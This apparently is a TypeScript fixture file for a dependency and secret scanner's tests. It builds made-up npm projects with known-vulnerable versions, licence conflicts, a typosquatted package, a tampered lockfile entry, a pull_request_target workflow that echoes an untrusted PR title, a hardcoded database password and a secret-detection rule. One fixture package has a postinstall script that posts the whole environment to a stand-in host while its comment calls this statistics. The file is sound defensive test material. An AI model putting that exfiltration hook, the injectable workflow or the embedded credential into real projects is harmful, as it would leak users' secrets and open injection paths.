/** The projects that the documentation speaks of, small and made up: path → contents. */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { osvJson } from '@theriac/testing/make-feed';
import { makeTar } from '@theriac/testing/make-tar';
import { forgeZip } from '@theriac/testing/make-zip';
import { ROOT } from '../run-cli.ts';

export type Files = Readonly<Record<string, string | Uint8Array>>;

const HASH = `sha512-${Buffer.alloc(64, 7).toString('base64')}`;
const archiveOf = (name: string, version: string): string =>
  `https://registry.example.org/${name}/-/${name}-${version}.tgz`;

/** The files below a folder. */
export function below(folder: string, files: Files): Files {
  return Object.fromEntries(Object.entries(files).map(([path, content]) => [`${folder}/${path}`, content]));
}

/** A package-lock.json with an entry per line. */
function lockfile(name: string, packages: Readonly<Record<string, { version: string }>>): string {
  const dependencies = Object.fromEntries(Object.entries(packages).map(([of, { version }]) => [of, version]));
  const entries = Object.entries(packages).map(([of, entry]) => [
    `node_modules/${of}`,
    { resolved: archiveOf(of, entry.version), integrity: HASH, ...entry },
  ]);
  const lines = [['', { name, version: '1.0.0', dependencies }], ...entries]
    .map(([path, entry]) => `    ${JSON.stringify(path)}: ${JSON.stringify(entry)}`)
    .join(',\n');
  return `{\n  "lockfileVersion": 3,\n  "name": ${JSON.stringify(name)},\n  "packages": {\n${lines}\n  }\n}\n`;
}

function npmProject(
  name: string,
  packages: Readonly<Record<string, { version: string }>>,
  more: object = {},
) {
  const dependencies = Object.fromEntries(Object.entries(packages).map(([of, { version }]) => [of, version]));
  return {
    'package.json': `${JSON.stringify({ name, version: '1.0.0', ...more, dependencies }, null, 2)}\n`,
    'package-lock.json': lockfile(name, packages),
    '.npmrc': 'registry=https://registry.example.org/\n',
  };
}

/** Something to fix (lodash, handlebars) and something to accept (moment). */
export const APP: Files = npmProject('app', {
  lodash: { version: '4.17.11' },
  handlebars: { version: '4.0.11' },
  moment: { version: '2.29.1' },
});

/** A mirror with the advisory that the documentation accepts: an index of it is as new as `day`. */
export function mirrorOn(day: string): Files {
  const record = osvJson('GHSA-8hfj-j24r-96c4', 'moment', {
    modified: `${day}T00:00:00Z`,
    aliases: ['CVE-2022-24785'],
    summary: 'Path traversal through the name of a locale',
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N' }],
    affected: [
      {
        package: { ecosystem: 'npm', name: 'moment' },
        ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '2.29.2' }] }],
      },
    ],
  });
  return { 'mirror/osv/npm/all.zip': forgeZip([{ name: 'GHSA-8hfj-j24r-96c4.json', content: record }]) };
}

const MIT = `MIT License

Copyright (c) 2024 The chart-kit authors

Permission is hereby granted, free of charge, to any person obtaining a copy
of this software and associated documentation files (the "Software"), to deal
in the Software without restriction, including without limitation the rights
to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
copies of the Software, and to permit persons to whom the Software is
furnished to do so, subject to the following conditions:

The above copyright notice and this permission notice shall be included in all
copies or substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
SOFTWARE.
`;

export const installed = (name: string, version: string, more: object): string =>
  JSON.stringify({ name, version, ...more });

/** Licences of every kind: denied, in conflict with a contract, changed in its text, a choice, and a text alone. */
export const WARD_PORTAL: Files = below('ward-portal', {
  ...npmProject(
    'ward-portal',
    {
      'chart-kit': { version: '2.1.0' },
      'pdf-engine': { version: '3.0.4' },
      'tiny-queue': { version: '0.4.1' },
    },
    { license: 'Apache-2.0' },
  ),
  'theriac.yaml': [
    'version: 1',
    'system:',
    '  name: Ward portal',
    '  distribution: [on-premises]',
    'contracts:',
    '  - name: Clinic BAA',
    '    kind: BAA',
    '    duties: [confidentiality]',
    '',
  ].join('\n'),
  'node_modules/chart-kit/package.json': installed('chart-kit', '2.1.0', {
    license: '(MIT OR GPL-3.0-only)',
  }),
  'node_modules/pdf-engine/package.json': installed('pdf-engine', '3.0.4', { license: 'AGPL-3.0-only' }),
  'node_modules/tiny-queue/package.json': installed('tiny-queue', '0.4.1', { license: 'MIT' }),
  'node_modules/tiny-queue/LICENSE': MIT.replace('The chart-kit authors', 'The tiny-queue authors').replace(
    'use, copy, modify, merge, publish, distribute, sublicense, and/or sell',
    'use, copy, modify, merge, publish, distribute, sublicense, but not sell',
  ),
});

/** A name that looks like another, an entry that was tampered with, and a workflow that runs what a stranger writes. */
export const TAMPERED: Files = {
  ...npmProject('clinic-api', {
    expresss: { version: '4.17.1', ...{ license: 'MIT', hasInstallScript: true } },
    'left-pad': { version: '1.3.0', ...{ license: 'MIT', resolved: archiveOf('event-stream', '3.3.6') } },
  }),
  '.github/workflows/ci.yml': [
    'name: CI',
    'on: pull_request_target',
    'permissions:',
    '  contents: read',
    'jobs:',
    '  title:',
    '    runs-on: ubuntu-24.04',
    '    timeout-minutes: 5',
    '    steps:',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of GitHub
    '      - run: echo "${{ github.event.pull_request.title }}"',
    '',
  ].join('\n'),
};

const packed = (files: Readonly<Record<string, string>>): Uint8Array =>
  makeTar(Object.entries(files).map(([path, content]) => ({ name: `package/${path}`, content })));

/** Two releases of a package: the second one sends the environment away when it is installed. */
export const RELEASES: Files = {
  'small-tool-1.0.0.tgz': packed({
    'package.json': installed('small-tool', '1.0.0', { main: 'index.js' }),
    'index.js': 'module.exports = (text, width) => String(text).padStart(width);\n',
  }),
  'small-tool-1.0.1.tgz': packed({
    'package.json': installed('small-tool', '1.0.1', {
      main: 'index.js',
      scripts: { postinstall: 'node package-setup.js' },
    }),
    'index.js': 'module.exports = (text, width) => String(text).padStart(width);\n',
    'package-setup.js': [
      "const http = require('http');",
      '',
      '// The version of the machine, for statistics.',
      'const body = JSON.stringify(process.env);',
      '',
      "const options = { host: 'collect.invalid', method: 'POST' };",
      'http.request(options).end(body);',
      '',
    ].join('\n'),
  }),
};

/** The same project before and after an update. */
export const UPDATED: Files = {
  ...below('app', APP),
  ...below(
    'update',
    npmProject('app', {
      lodash: { version: '4.17.21' },
      handlebars: { version: '4.7.8' },
      'date-fns': { version: '2.30.0' },
    }),
  ),
};

/** A folder of `examples`, by path inside it. */
export function exampleFiles(name: string): Record<string, string> {
  const root = join(ROOT, 'examples', name);
  return Object.fromEntries(
    readdirSync(root, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => {
        const path = join(entry.parentPath, entry.name);
        return [relative(root, path), readFileSync(path, 'utf8')];
      }),
  );
}

/** A service with a password that is written down, and with two that are not. */
export const CLINIC: Readonly<Record<string, string>> = {
  'deploy/app.env': `PORT=8080\nDATABASE_URL=postgres://app:${['4kX9mQ', '2vP7tL'].join('')}@db.clinic.example/records\n`,
  'deploy/api.yaml':
    'kind: Deployment\nspec: {template: {spec: {containers: [{name: api, env: [{name: TOKEN, valueFrom: {secretKeyRef: {name: api, key: token}}}]}]}}}\n',
  'src/mail.ts': 'export const password = process.env.MAIL_PASSWORD;\n',
};

/** As docs/secrets.md has it. */
export const OWN_KIND = `version: 1
secrets:
  kinds:
    - id: CLINIC-DEVICE
      title: Token of a bedside device
      severity: critical
      keywords: [WARD-]
      expression: WARD-(?<secret>[A-Z0-9]{8}-[A-Z0-9]{8})
      revoke: "device cloud: Devices → Tokens"
      examples:
        fail: ["token: WARD-4KX9QZ7M-P2TVH6RB"]
        pass: [WARD-4KX9, ward-4kx9qz7m-p2tvh6rb]
`;
